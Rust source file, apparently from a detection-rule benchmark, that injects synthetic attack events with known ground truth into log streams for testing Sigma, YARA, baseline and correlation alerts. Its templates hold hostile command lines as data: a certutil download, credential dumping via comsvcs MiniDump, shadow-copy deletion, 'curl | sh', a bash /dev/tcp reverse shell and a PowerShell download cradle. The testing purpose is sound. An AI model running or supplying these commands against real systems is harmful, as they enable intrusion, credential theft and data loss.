//! Injected attacks with known ground truth: each story is a few events that must raise
//! one named alert on one named entity. Sigma stories match a bundled detection rule,
//! the YARA story holds a download cradle the bundled YARA rule finds, the baseline
//! story gives a host a parent process it never had after its week of learning, and the
//! correlation story is a burst of failed logons the scenario's correlation rule counts.
//!
//! Every story names its entity with a token `atk-NNNNNN` found nowhere else in the
//! stream, so an alert is tied to its story by that token alone.

use serde::{Deserialize, Serialize};
use serde_json::json;

use crate::rng::Rng;
use crate::sources::{
    cloudtrail_record, failed_logon, okta_event, script_block, windows_event, Slot, Source,
    LINUX_SYSMON, POWERSHELL, SYSMON,
};

/// Rule id of the new-parent-process baseline the baseline story raises.
pub const NEW_PARENT_BASELINE: &str = "vedette-baseline-new-parent-process";
/// Hours a host learns its parents before a new one is raised (that baseline's setting).
pub const NEW_PARENT_LEARNING_HOURS: i64 = 168;
/// Rule id of the YARA rule the YARA story matches.
pub const CRADLE_YARA_RULE: &str = "powershell_download_cradle:powershell_download_cradle";
/// Rule id of the scenario correlation rule (`benches/scenarios/rules/`).
pub const FAILED_LOGON_BURST: &str = "5f0d8a3e-2c71-4b8e-9f64-0b1e7d2a9c53";
/// Failed logons in one burst story (the correlation fires at 20 within 5 minutes; the
/// burst takes 24 × 5 s).
pub const BURST_LOGONS: usize = 24;

/// What one story must raise.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Truth {
    /// Story number.
    pub id: u64,
    /// `sigma`, `yara`, `baseline` or `correlation`.
    pub kind: String,
    /// The rule id the alert carries.
    pub rule: String,
    /// The token that names the story's entity (`atk-NNNNNN`).
    pub token: String,
    /// Whether the alert's host or user column holds the token (else only `matched`).
    pub entity_column: bool,
    /// The source of the event that completes the story.
    pub source: String,
    /// Stream position of the event that completes the story.
    pub index: u64,
    /// Event time of that event, Unix milliseconds.
    pub time_ms: i64,
}

impl std::fmt::Display for Truth {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} {} {} (record {}, {})",
            self.kind, self.rule, self.token, self.index, self.source
        )
    }
}

/// The kinds of story, taken in turn.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Story {
    /// One event matching a bundled Sigma rule (the template's index).
    Sigma(usize),
    /// A script block with a download cradle.
    Yara,
    /// A host's first new parent process after its learning.
    Baseline,
    /// A burst of failed logons for one account.
    Correlation,
}

/// A Sigma template: the bundled rule, the source, and the event with the token `T`.
struct SigmaTemplate {
    rule: &'static str,
    source: Source,
}

const SIGMA_TEMPLATES: &[SigmaTemplate] = &[
    SigmaTemplate {
        rule: "d2644136-7400-49e4-8b45-45b687d7b72a",
        source: Source::Sysmon,
    }, // certutil download
    SigmaTemplate {
        rule: "bb2c0111-0336-46ca-b9c0-d3374a1b44e2",
        source: Source::Sysmon,
    }, // net user /add
    SigmaTemplate {
        rule: "c442c95a-ae56-4f9c-8f0f-8a27b466b347",
        source: Source::Sysmon,
    }, // comsvcs minidump
    SigmaTemplate {
        rule: "d8b290a1-eff0-4007-bdde-0688eec47b8e",
        source: Source::Sysmon,
    }, // powershell -enc
    SigmaTemplate {
        rule: "9468f1b7-0888-4982-bcf1-407d8e392134",
        source: Source::Sysmon,
    }, // schtasks from Public
    SigmaTemplate {
        rule: "3ef2338f-8192-4427-af93-29c0196919c8",
        source: Source::Sysmon,
    }, // vssadmin delete shadows
    SigmaTemplate {
        rule: "d98c2a17-f1bb-471e-b4f7-e46fd31fb04e",
        source: Source::Security,
    }, // audit log cleared
    SigmaTemplate {
        rule: "bad68b6f-2177-42e8-a3ac-9622ebcfdc70",
        source: Source::LinuxSysmon,
    }, // curl | sh
    SigmaTemplate {
        rule: "d54cd6f2-8be6-4188-8209-898ce397fba0",
        source: Source::LinuxSysmon,
    }, // /dev/tcp shell
    SigmaTemplate {
        rule: "c333f022-e23a-4105-be91-57cc6241d940",
        source: Source::CloudTrail,
    }, // StopLogging
    SigmaTemplate {
        rule: "f8700eb9-a305-4946-ae02-4eddf681b620",
        source: Source::CloudTrail,
    }, // console login, no MFA
    SigmaTemplate {
        rule: "55904c46-3d16-4048-89f1-0d4474435b73",
        source: Source::Okta,
    }, // MFA factors reset
];

/// Every story kind in the order they are injected.
pub fn rotation() -> Vec<Story> {
    let mut all: Vec<Story> = (0..SIGMA_TEMPLATES.len()).map(Story::Sigma).collect();
    all.extend([Story::Yara, Story::Baseline, Story::Correlation]);
    all
}

/// The token of story `n`.
pub fn token(n: u64) -> String {
    format!("atk-{n:06}")
}

/// Where a story's events go: a Windows host, or an account.
pub struct Target<'a> {
    /// The story's number.
    pub n: u64,
    /// For the baseline story: the learned host's name; else unused.
    pub host: &'a str,
    /// For the baseline and correlation stories: the host's usual image to run.
    pub image: &'a str,
}

/// The events of a story (one per slot; `slots` has `events(story)` entries) and its truth.
pub fn render(
    story: Story,
    target: &Target<'_>,
    slots: &[Slot],
    rng: &mut Rng,
) -> Vec<(Source, String)> {
    let t = token(target.n);
    let win = format!("{t}.corp.example");
    let Some(&slot) = slots.first() else {
        return Vec::new();
    };
    match story {
        Story::Sigma(k) => {
            let Some(template) = SIGMA_TEMPLATES.get(k) else {
                return Vec::new();
            };
            let process = |image: &str, original: &str, command: &str, parent: &str| {
                windows_event(
                    1,
                    SYSMON.1,
                    SYSMON.0,
                    &win,
                    slot,
                    json!({
                        "ProcessId": 3000 + target.n % 60_000,
                        "Image": image,
                        "OriginalFileName": original,
                        "CommandLine": command,
                        "ParentImage": parent,
                        "User": format!(r"CORP\{t}"),
                    }),
                )
            };
            let cmd = r"C:\Windows\System32\cmd.exe";
            let text = match k {
                0 => process(r"C:\Windows\System32\certutil.exe", "CertUtil.exe", &format!(r"certutil.exe -urlcache -split -f http://203.0.113.50/{t}.bin C:\Users\Public\{t}.exe"), cmd),
                1 => process(r"C:\Windows\System32\net.exe", "net.exe", &format!("net user {t} Winter2026! /add"), cmd),
                2 => process(r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", &format!(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 664 C:\Windows\Temp\{t}.dmp full"), cmd),
                3 => process(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", cmd),
                4 => process(r"C:\Windows\System32\schtasks.exe", "schtasks.exe", &format!(r#"schtasks /create /sc onlogon /tn "{t}" /tr "C:\Users\Public\{t}.exe" /f"#), cmd),
                5 => process(r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe Delete Shadows /All /Quiet", cmd),
                6 => windows_event(1102, "Security", "Microsoft-Windows-Eventlog", &win, slot, json!({
                    "SubjectUserSid": "S-1-5-21-1111111111-2222222222-3333333333-1107",
                    "SubjectUserName": t,
                    "SubjectDomainName": "CORP",
                    "SubjectLogonId": "0x3e7",
                })),
                7 | 8 => {
                    let command = if k == 7 {
                        format!("sh -c curl -fsSL http://198.51.100.77/{t}.sh | sh")
                    } else {
                        "bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1".to_string()
                    };
                    windows_event(1, LINUX_SYSMON.1, LINUX_SYSMON.0, &t, slot, json!({
                        "ProcessId": 2000 + target.n % 30_000,
                        "Image": if k == 7 { "/usr/bin/sh" } else { "/usr/bin/bash" },
                        "CommandLine": command,
                        "ParentImage": "/usr/sbin/apache2",
                        "User": "www-data",
                    }))
                }
                9 => cloudtrail_record(&t, slot, rng, "cloudtrail.amazonaws.com", "StopLogging", json!({
                    "readOnly": false,
                    "requestParameters": {"name": "org-trail"},
                })),
                10 => cloudtrail_record(&t, slot, rng, "signin.amazonaws.com", "ConsoleLogin", json!({
                    "eventType": "AwsConsoleSignIn",
                    "responseElements": {"ConsoleLogin": "Success"},
                    "additionalEventData": {"MFAUsed": "No", "MobileVersion": "No"},
                })),
                _ => {
                    let victim = format!("00u{:x}", rng.next_u64());
                    okta_event(&format!("{t}@example.com"), slot, rng, "user.mfa.factor.reset_all", "Reset all factors for user", json!({
                    "target": [{"id": victim, "type": "User", "alternateId": format!("{t}-victim@example.com"), "displayName": t}],
                }))
                }
            };
            vec![(template.source, text)]
        }
        Story::Yara => {
            let text = format!(
                "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.61/{t}.ps1')"
            );
            vec![(
                Source::PowerShell,
                windows_event(
                    4104,
                    POWERSHELL.1,
                    POWERSHELL.0,
                    &win,
                    slot,
                    script_block(&text, rng),
                ),
            )]
        }
        Story::Baseline => vec![(
            Source::Sysmon,
            windows_event(
                1,
                SYSMON.1,
                SYSMON.0,
                target.host,
                slot,
                json!({
                    "ProcessId": 3000 + target.n % 60_000,
                    "Image": target.image,
                    "CommandLine": target.image,
                    "ParentImage": format!(r"C:\Users\Public\{t}\updater.exe"),
                    "User": r"CORP\svc-update",
                }),
            ),
        )],
        Story::Correlation => slots
            .iter()
            .enumerate()
            .map(|(k, s)| {
                let ip = format!("198.51.100.{}", 1 + target.n % 250);
                // Password guessing is fast whatever the stream's clock: one try every
                // BURST_SPACING_MS from the story's first slot.
                let at = Slot {
                    index: s.index,
                    time_ms: burst_time(slot.time_ms, k),
                };
                (
                    Source::Security,
                    windows_event(
                        4625,
                        "Security",
                        "Microsoft-Windows-Security-Auditing",
                        target.host,
                        at,
                        failed_logon(&t, &ip),
                    ),
                )
            })
            .collect(),
    }
}

/// Event time between two failed logons of a burst story.
pub const BURST_SPACING_MS: i64 = 5_000;

/// Event time of the `k`-th failed logon of a burst that starts at `start_ms`.
pub fn burst_time(start_ms: i64, k: usize) -> i64 {
    start_ms + k as i64 * BURST_SPACING_MS
}

/// Event time of the `k`-th event of `story`, whose first slot is at `start_ms` and
/// whose `k`-th slot is at `slot_ms`.
pub fn event_time(story: Story, start_ms: i64, k: usize, slot_ms: i64) -> i64 {
    match story {
        Story::Correlation => burst_time(start_ms, k),
        _ => slot_ms,
    }
}

/// How many events (consecutive stream positions) a story takes.
pub fn events(story: Story) -> usize {
    match story {
        Story::Correlation => BURST_LOGONS,
        _ => 1,
    }
}

/// What the story must raise, given the stream position and time of its last event.
pub fn truth(story: Story, n: u64, source: Source, index: u64, time_ms: i64) -> Truth {
    let (kind, rule, entity_column) = match story {
        Story::Sigma(k) => ("sigma", SIGMA_TEMPLATES.get(k).map_or("", |t| t.rule), true),
        Story::Yara => ("yara", CRADLE_YARA_RULE, true),
        Story::Baseline => ("baseline", NEW_PARENT_BASELINE, false),
        Story::Correlation => ("correlation", FAILED_LOGON_BURST, false),
    };
    Truth {
        id: n,
        kind: kind.into(),
        rule: rule.into(),
        token: token(n),
        entity_column,
        source: source.name().into(),
        index,
        time_ms,
    }
}
